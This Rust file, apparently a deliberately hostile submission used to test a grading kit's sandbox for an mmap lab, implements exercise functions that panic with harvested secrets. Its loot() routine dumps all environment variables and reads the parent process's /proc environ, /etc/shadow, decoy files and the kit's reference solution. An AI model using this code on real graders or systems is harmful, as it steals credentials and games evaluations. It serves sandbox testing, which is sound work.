//! Hostile: looks for secrets wherever it might find them and prints what it finds in a panic
//! message, which the report shows: the grader's environment, a file outside its folder, the
//! grader's own environment through /proc, the kit's reference solution.
use std::io::Write;
use std::num::NonZeroU64;
use std::path::Path;

use cli_support::Outcome;

fn loot() -> String {
    let mut found = Vec::new();
    for (key, value) in std::env::vars() {
        found.push(format!("env {key}={value}"));
    }
    let parent = std::os::unix::process::parent_id();
    for path in [
        // SAFETY: getuid only reads this process's credentials.
        format!("/tmp/mmap-lab-decoy-{}", unsafe { nix::libc::getuid() }),
        "/tmp/mmap-lab-decoy-0".to_owned(),
        format!("/proc/{parent}/environ"),
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../solutions/ex1/src/exercise.rs").to_owned(),
        "/etc/shadow".to_owned(),
    ] {
        match std::fs::read(&path) {
            Ok(bytes) => found.push(format!("{path}: {}", String::from_utf8_lossy(&bytes))),
            Err(e) => found.push(format!("{path}: {e}")),
        }
    }
    found.join("\n")
}

pub fn peek(_path: &Path, _offset: u64, _len: u64, _out: &mut dyn Write) -> Outcome {
    panic!("loot:\n{}", loot())
}

pub fn bump(_path: &Path, _stride: NonZeroU64, _delta: u8) -> Outcome {
    panic!("loot:\n{}", loot())
}
